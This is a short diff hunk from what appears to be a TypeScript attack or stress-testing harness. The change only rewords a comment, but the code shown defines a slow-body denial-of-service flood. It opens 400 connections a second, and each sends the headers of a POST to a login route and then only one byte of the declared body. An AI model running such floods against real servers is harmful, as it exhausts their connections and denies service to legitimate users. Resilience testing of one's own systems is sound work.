@@ -34,7 +34,7 @@ export async function uploadOversizedTables({ url, clerk }: Target) {
 
 const oneByte = `POST ${routes.login.path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 50\r\n\r\n{`;
 
-/** Opens 400 connections a second that send one byte of a request body. */
+/** Opens 400 connections a second. Each sends the headers and only the first byte of a request body. */
 export const floodOneByteBodies = (target: Target) =>
   repeat(attackDurationMs / 20, 20, () => {
     for (let times = 0; times < 8; times += 1) sendRaw(target, oneByte, 2000);
